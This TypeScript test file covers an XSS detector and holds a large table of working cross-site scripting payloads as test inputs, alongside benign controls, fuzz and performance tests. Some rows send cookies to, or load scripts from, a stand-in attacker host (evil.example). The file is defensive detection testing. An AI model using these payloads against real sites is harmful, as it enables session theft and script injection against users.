import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ContentProfile } from '../../src/detect/types.js';
import { mayBeXss, xssDetector } from '../../src/detect/xss.js';
import { schemeAt, sinkAt } from '../../src/detect/xss/prefilter.js';
import {
  ANY_PARANOIA,
  describePrefilter,
  expectLinearOnNearMatches,
  expectWellFormedUnderFuzz,
  fuzzValues,
  itEachThroughEngine,
  type Row,
  rowInspector,
} from './helpers.js';

const inspect = rowInspector(xssDetector);

const ROWS: Row[] = [
  // tags that execute
  { input: '<script>alert(1)</script>', expect: true },
  { input: '<ScRiPt src=//evil.example/x.js></sCrIpT>', expect: true },
  { input: '<svg/onload=alert(1)>', expect: true },
  { input: '<img src=x onerror=alert(document.domain)>', expect: true },
  { input: '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>', expect: true },
  { input: '<xss onbeforehellfreezes=alert(1)>', expect: true, note: 'unknown element, handler still runs' },
  { input: '<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>', expect: true },
  { input: '<iframe src=http://evil.example>', expect: true },
  { input: '<object data="javascript:alert(1)">', expect: true },
  { input: '<a href="jav\tascript:alert(1)">x</a>', expect: true, note: 'scheme split by a tab' },
  { input: '<a href=" j a v a s c r i p t :alert(1)">x</a>', expect: true },
  { input: '<a href="vbscript:MsgBox(1)">x</a>', expect: true },
  { input: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', expect: true },
  { input: '<div style="width: expression(alert(1))">', expect: true },
  { input: '<p style="background:url(javascript:alert(1))">', expect: true },
  { input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', expect: true },
  {
    input: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    expect: true,
  },
  // breakouts
  { input: '" onmouseover="alert(1)', expect: true },
  { input: "'><svg onload=alert(1)>", expect: true },
  { input: '</script><script>alert(1)</script>', expect: true },
  { input: '</textarea><img src=x onerror=alert(1)>', expect: true },
  { input: '</title><svg/onload=confirm(1)>', expect: true },
  { input: "';alert(1)//", expect: true },
  { input: '"-alert(1)-"', expect: true },
  { input: '`${alert(1)}`', expect: true },
  { input: "x';document.location='http://evil.example/?c='+document.cookie;//", expect: true },
  { input: 'javascript:alert(document.cookie)', expect: true },
  { input: 'window["alert"](window["document"]["cookie"])', expect: true },
  { input: 'document /*x*/ . cookie', expect: true },
  { input: '[].sort.call`${alert}1337`', expect: true },
  { input: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', expect: true, note: 'UTF-7' },
  { input: '(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]', expect: true, note: 'JSFuck' },
  // markup profile: only executable content
  {
    input: '<p>Hello <b>world</b></p><img src="https://cdn.example/a.png">',
    expect: false,
    profile: 'markup',
  },
  { input: '<p>Hello</p><script>alert(1)</script>', expect: true, profile: 'markup' },
  { input: '<a href="javascript:alert(1)">x</a>', expect: true, profile: 'markup' },
  { input: '<img src=x onerror=alert(1)>', expect: true, profile: 'markup' },
  // benign text with < and >
  { input: 'a < b and c > d', expect: false },
  { input: '<select><option>A</option><option>B</option></select>', expect: false },
  { input: '<title>Report</title><p>Quarterly numbers</p>', expect: false },
  { input: 'I <3 this product <3', expect: false },
  { input: 'Contact: John Doe <john.doe@example.com>', expect: false },
  { input: 'I love <b>bold</b> text', expect: false },
  { input: 'I love <b>bold</b> text', expect: true, paranoia: 2 },
  { input: '{"a":1,"b":[1,2,3],"c":"x > y"}', expect: false },
  { input: '# Title\n\n* item one\n* item > two\n\n`code` and **bold**', expect: false },
  { input: 'if (x < 10 && y > 2) return;', expect: false },
  { input: 'Please set an alert (not urgent) for tomorrow', expect: false },
  { input: 'model.eval() then model.train()', expect: false },
  { input: 'The JavaScript: The Good Parts book', expect: false },
  { input: 'onion=3&option=monthly', expect: false },
  { input: 'https://example.com/page?version=1.0&action=view', expect: false },
  { input: 'Use the onload event to run code after the page loads', expect: false },
  { input: 'Why document.cookie is not secure', expect: false },
  { input: 'Why document.cookie is not secure', expect: true, paranoia: 2 },
  { input: 'Check my site <a href="https://me.example">here</a>', expect: false },
  { input: '<div class="card"><img src="https://cdn.example/a.png" alt="a"></div>', expect: false },
  { input: '<img src="https://tracker.example/p.gif">', expect: true, paranoia: 2 },
  // a link to an IPv4 address written as one integer, in hex or in octal: spelled to pass a filter
  { input: '<a href="http://1113982867/">x</a>', expect: true },
  { input: '<a href="http://0x42.0x0000066.0x7.0x93/">x</a>', expect: true },
  { input: '<img src="http://0102.0146.0007.00000223/a.png">', expect: true },
  { input: '<a href="http://192.168.0.10/">router</a>', expect: false },
  { input: '<a href="https://example.com:8080/x?id=1234567">x</a>', expect: false },
  { input: '<a href="http://10.0.0.1:8080/">x</a>', expect: false },
  { input: '2024-01-02 <= date <= 2024-12-31', expect: false },
  // tag names a filter-evasion probe spells out (not executable, but only probes write them)
  { input: 'foo<f o r m', expect: true, note: 'letters spaced out' },
  { input: '< x: script', expect: true, note: 'namespace prefix and spaces' },
  { input: '<\u0000script src=x>', expect: true, note: 'NUL after <' },
  { input: 'test=<:vmlframe src=x', expect: true, note: 'empty namespace prefix' },
  { input: 'Hello <d i v> world', expect: false, note: 'div is not worth probing' },
  { input: 'x < a b c and d > e', expect: false },
  // leaving an HTML comment; server-side includes
  { input: '-->', expect: true, note: 'the whole value closes a comment' },
  { input: '"--><svg onload=alert(1)>', expect: true },
  { input: '--!><img src=x onerror=alert(1)>', expect: true },
  { input: '<!--#exec cmd="id"-->', expect: true },
  { input: '<!--#exec cmd="id"-->', expect: true, profile: 'markup' },
  { input: 'build --> test --> deploy', expect: false, note: 'arrows in prose' },
  { input: 'build --> test --> deploy', expect: true, paranoia: 2 },
  { input: '<!-- note --><p>text</p>', expect: false, note: 'a comment the value opened itself' },
  { input: 'for (i = 10; i-->0;) {}', expect: false },
  // DOM sinks standing alone (the whole value, or set off by punctuation)
  { input: 'window.location', expect: true },
  { input: '...(document.domain)...', expect: true },
  { input: 'document.cookie', expect: false, profile: 'free-text' },
  { input: 'I read window.location in the docs', expect: false },
  // JS sinks and breakouts
  { input: 'atob()', expect: true },
  { input: 'eval(atob("YWxlcnQoMSk="))', expect: true },
  { input: "import('//evil.example/x.js')", expect: true },
  { input: "';import('//evil.example/x.js')//", expect: true },
  { input: "import { a } from './b.js'", expect: false },
  { input: 'you are willing to import (and wait)', expect: false },
  { input: "top['al'+'ert'](1)", expect: true, note: 'property name from strings, called' },
  { input: "obj['first' + 'name']", expect: false, note: 'concatenated key, not called' },
  { input: 'window.onerror=alert;throw 1', expect: true },
  { input: 'img.onload = function () {}', expect: false, profile: 'code' },
  { input: 'a=+!![]', expect: true, note: 'JSFuck atoms' },
  { input: '![alt](https://example.com/a.png)', expect: false, note: 'Markdown image' },
  { input: 'c++ [] overloads', expect: false },
  // handlers: vendor-prefixed names are real handlers; an unknown one counts at paranoia 1 only
  // where an attribute starts (after a closing quote, or leading blanks that end an unquoted value)
  { input: '  onwebkitplaybacktargetavailabilitychanged= ', expect: true },
  { input: '  onabcdefgh= ', expect: true, note: 'leading blanks end an unquoted attribute' },
  { input: '\tonprobexyz=1', expect: true },
  { input: 'x onabcdefgh= ', expect: false, note: 'a word before it: not an attribute start' },
  { input: 'x onabcdefgh= ', expect: true, paranoia: 2 },
  { input: '  online= ', expect: false, note: 'too short to be a probe' },
  { input: `  on${'x'.repeat(50)}= `, expect: false, note: 'longer than any handler name' },
  { input: 'status=online', expect: false },
  { input: 'turn onboarding=done', expect: false },
  // XML that makes its parser fetch a remote schema: paranoia 2
  // XML that makes its parser fetch a remote schema: a plain field has no business carrying it;
  // prose and code fields only from paranoia 2
  {
    input:
      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://evil.example/a.xsd">a</a>',
    expect: true,
  },
  {
    input:
      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://evil.example/a.xsd">a</a>',
    expect: false,
    profile: 'free-text',
  },
  {
    input:
      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://evil.example/a.xsd">a</a>',
    expect: true,
    paranoia: 2,
    profile: 'free-text',
  },
  // SVG / MathML alone are images and formulas; what runs there is judged on its own
  {
    input: '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect width="9"/></svg>',
    expect: false,
  },
  { input: '<math><mi>x</mi><mo>=</mo><mn>2</mn></math>', expect: false },
  { input: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', expect: true },
  { input: '<svg><set attributeName=href to=javascript:alert(1) />', expect: true },
  { input: '<svg><script href=data:,alert(1) />', expect: true },
  // markup right after closing an attribute and its tag
  { input: 'q"><b>hi</b>', expect: true, note: 'attribute breakout, then markup' },
  { input: "x'/><br>", expect: true },
  { input: 'I typed "> <b>" to test', expect: false, note: 'a quotation in prose' },
  // framework expression attributes (AngularJS, Vue, Alpine)
  { input: '<div ng-app><input autofocus ng-focus=$event.view.prompt(7)>', expect: true },
  { input: '<p v-on:mouseover="constructor.constructor(\'confirm(3)\')()">x</p>', expect: true },
  { input: '<i @click="fetch(\'//evil.example\')">x</i>', expect: true },
  { input: '<div x-init="location=\'//evil.example\'">', expect: true },
  { input: '<p ng-bind="name">x</p>', expect: false, note: 'a binding, not a handler' },
  // IE behaviour import, also with the `?` and spaces filtered out
  { input: '<?import namespace="t" implementation="#default#time2">', expect: true },
  { input: 'q=<importimplementation="x.htc">', expect: true },
  { input: 'please <import> the data', expect: true, note: 'import is an executable element' },
  // call shapes
  { input: 'btoa()', expect: true },
  { input: '(confirm)(7)', expect: true },
  { input: 'prompt?.(7)', expect: true },
  { input: 'Dmitri said мalert(x)', expect: false, note: 'glued to a Cyrillic letter: one identifier' },
  { input: 'Ð¼scriptÐ¾alert(1)', expect: false, note: 'UTF-8 Cyrillic read as Latin-1' },
  {
    input: 'Ð¼scriptÐ¾alert(1)Ð¼/scriptÐ¾',
    expect: true,
    note: 'high-bit markup re-encoded: opener and closer of the same name',
  },
  { input: 'Ð¼iframe src=xÐ¾Ð¼/IFRAMEÐ¾', expect: true },
  { input: 'Ð¼Ð¾Ð¹ Ð´Ð¾Ð¼/ÐºÐ²Ð°Ñ\u0080Ñ\u0082Ð¸Ñ\u0080Ð°', expect: false, note: 'Cyrillic with a slash' },
  { input: 'Ð¼scriptÐ¾ and Ð¼/scriptsÐ¾', expect: false, note: 'different names' },
  { input: 'Ð¼scriptÐ¾alert(1)Ð¼/scriptÐ', expect: false, note: 'the closing tag is not complete' },
  { input: 'Ð¼script x=1Ð¼/scriptÐ¾', expect: false, note: 'the opening tag is not complete' },
  // the `in` operator joining a closed string to a navigation or a hook
  { input: '"in valueOf=alert', expect: true },
  { input: "x'in location='//evil.example'", expect: true },
  { input: "'in(onerror=alert)", expect: true },
  { input: '"in stock" items only', expect: false },
  { input: 'search "in location=Paris"', expect: false, note: 'a quotation after a word' },
  { input: '"in progress=true"', expect: false, note: 'not a navigation or a hook' },
  { input: "'  infoo.bar=", expect: false, note: 'no operator: `infoo` is one identifier' },
  // JS string breakout whatever the call: operator, call or member assignment, then a comment or a
  // re-opened string
  { input: "'-fetch('//evil.example')-'", expect: true },
  { input: "x'};location=name;//", expect: true },
  { input: '\\";navigator.sendBeacon(u,d)//', expect: true },
  { input: `"+new Image().src='//evil.example'+"`, expect: true },
  { input: '"quote"; f(x) // note', expect: false, note: 'the value opened the string itself' },
  { input: "'x' + f(y) // comment", expect: false },
  { input: "it's -5 degrees; cold(ish) // brr", expect: false, note: 'prose before the quote' },
  { input: "a='1'&url=http://example.com/x", expect: false, note: 'query string, not code' },
  // US-ASCII high-bit markup, UTF-7 charset switch
  { input: '\u00bcsvg onload=x\u00be', expect: true },
  { input: '\u00bc/b\u00be', expect: true },
  { input: '1\u00bc cup sugar, \u00be cup flour', expect: false },
  { input: 'UTF-7', expect: true, note: 'the whole value switches a form or page to UTF-7' },
  { input: 'x-imap4-modified-utf7', expect: true },
  { input: 'utf-8', expect: false },
  // client-side template sandbox escapes and the Function constructor, whatever the payload
  { input: "{{$eval.constructor('fetch(7)')()}}", expect: true },
  { input: "{{[].map.constructor('y')()}}", expect: true },
  { input: "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,b')}}", expect: true },
  { input: "x.constructor('return this')()", expect: true },
  { input: 'Hello {{ user.name }}, order {{order.id}} shipped', expect: false },
  { input: 'The constructor (a special method) runs first', expect: false },
  // a language named in prose is not a URL scheme
  { input: 'Rewrite this in JavaScript: def f(x): return x*2', expect: false },
  { input: 'Rewrite this in JavaScript: def f(x): return x*2', expect: true, paranoia: 2 },
  { input: 'see javascript:fetch(1)', expect: true },
  { input: 'Is utf-7 still supported?', expect: false },
];

describe('xss detector', () => {
  it.each(ROWS)('$input → $expect (PL $paranoia, $profile)', (row) => {
    expect(inspect(row).fired).toBe(row.expect);
  });

  it('reports the taxonomy ids, a short fragment and the location', () => {
    const { findings } = inspect({ input: `${'x'.repeat(500)}<svg onload=alert(1)>${'y'.repeat(500)}` });
    expect(findings).toHaveLength(1);
    const f = findings[0];
    expect(f).toMatchObject({
      category: 'cross-site',
      subtype: 'xss-reflected',
      detector: 'xss',
      location: 'query.q',
    });
    expect(f.fragment?.length).toBeLessThanOrEqual(120);
    expect(f.fragment).toContain('<svg');
  });

  it('never throws and always returns well-formed findings (fuzz)', () => {
    const pieces = [
      '<',
      '>',
      '"',
      "'",
      '`',
      '/',
      '=',
      'on',
      'load',
      'script',
      'svg',
      'javascript:',
      '&{',
      '${',
      '(',
      ')',
      '[',
      ']',
      '!',
      '+',
      ' ',
      '\t',
      'alert',
      'a',
    ];
    const profiles: ContentProfile[] = ['generic', 'markup', 'free-text', 'url', 'code'];
    expectWellFormedUnderFuzz(
      xssDetector,
      { value: fuzzValues(pieces, 60), profile: fc.constantFrom(...profiles), paranoia: ANY_PARANOIA },
      { fixed: { location: 'body.$.x', source: 'body' } },
    );
  });

  it('stays linear on 1 MB of repeated near-matches', () => {
    const units = [
      '<svg on',
      '<a x="<a x="',
      '" onx=',
      'javascript',
      '[]!+',
      'alert(',
      'url(',
      '</script',
      '<f o r',
      '< x:',
      '-->',
      '<!--#exec',
      "['a'+",
      '[/*',
      'import(',
      'w.onerror=',
      '+!![',
      "'-a.b=",
      '\u00bca',
      '"><',
      '<import i',
      '<a ng-click=',
      "'};x(",
      '{{',
      '{{constructo',
      "constructor('",
      'constructor.prototype.',
      '\u00d0\u00bcabc',
      '\u00d0\u00bc/ab',
      '"in valueo',
      ' onabcdef',
      '<a href=http://0x1.0',
    ];
    // best of three: the first run also pays for JIT warm-up and a loaded CI machine's hiccups
    expectLinearOnNearMatches(xssDetector, units, { tries: 3 });
  });
});

describe('xss through the engine (decoding included)', () => {
  itEachThroughEngine('xss', 'query.q', [
    ['foo=bar%3Cf%20o%20r%20m', true],
    ['--%3E', true],
    ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', true],
    ['window%2Elocation', true],
    ['build%20--%3E%20test', false],
    ['price%20%3C%205%20and%20size%20%3E%203', false],
  ]);
});

describePrefilter('xss prefilter (mayBeXss)', {
  detector: xssDetector,
  pre: (v: string) => mayBeXss(v),
  rows: ROWS,
  token: fc.constantFrom(
    '<',
    '(',
    '`',
    '[',
    '{',
    '=',
    'on',
    'onload',
    'href',
    ' ',
    '.',
    ':',
    '-',
    '>',
    '!',
    '/*',
    'javascript',
    'java script',
    'data',
    'document',
    'window',
    'cookie',
    'top',
    'innerHTML',
    'new function',
    'ADw-',
    '-moz-binding',
    ')',
    '\\',
    '­',
    'a',
    '1',
    '"',
    "'",
    ';',
    '}',
    '//',
    'location',
    'utf-7',
    '\u00bc',
    '\u00be',
    '\u00d0',
    'in',
    'valueof',
    'http://0x7f/',
  ),
});

describe('xss prefilter scanner matches its regex definition', () => {
  // The regex the hand-written scanner replaced, and the rest of the former `mayBeXss`.
  const XSS_TRIGGER =
    /[<(`[{\u0130\u212a\u00bc]|\/\*|--!?>|\bon[a-z]*[\x00-\x20]*=|(?:formaction|srcdoc|href)[\x00-\x20]*=|new function|adw-|-moz-binding|utf-?7|["'][)\]}]{0,3}\s*(?:[;+\-*|&,^%]|in[\s(])/i;
  const reference = (v: string): boolean => {
    if (XSS_TRIGGER.test(v)) return true;
    const bang = v.indexOf('!');
    if (bang >= 0 && v.indexOf('!', bang + 1) >= 0) return true;
    for (let i = v.indexOf(':'); i >= 0; i = v.indexOf(':', i + 1)) if (schemeAt(v, i)) return true;
    for (let i = v.indexOf('.'); i >= 0; i = v.indexOf('.', i + 1)) if (sinkAt(v, i)) return true;
    return false;
  };
  const token = fc.constantFrom(
    'on',
    'ON',
    'On',
    'onx',
    '1on',
    '_on',
    'éon',
    'href',
    'HREF',
    'srcdoc',
    'formaction',
    'xhref',
    '=',
    ' ',
    '\t',
    '\r',
    '\u00a0',
    '\u2028',
    '\ufeff',
    '\u0000',
    '"',
    "'",
    ')',
    ']',
    '}',
    ';',
    '+',
    '-',
    '*',
    '|',
    '&',
    ',',
    '^',
    '%',
    'in',
    'IN',
    'in(',
    '(',
    'new',
    'NEW',
    'function',
    'Function',
    'adw',
    'ADW',
    'moz',
    'binding',
    'MOZ',
    'utf',
    'UTF',
    '7',
    '/',
    '*',
    '>',
    '!',
    'a',
    'z',
    'ſ',
    'K',
    '.',
    ':',
    'script',
    'document',
    'location',
    'innerhtml',
  );
  it('agrees with the regex on generated values', () => {
    fc.assert(
      fc.property(fc.array(token, { maxLength: 12 }), (parts) => {
        const v = parts.join('');
        expect(mayBeXss(v)).toBe(reference(v));
      }),
      { numRuns: 20000 },
    );
  });
});
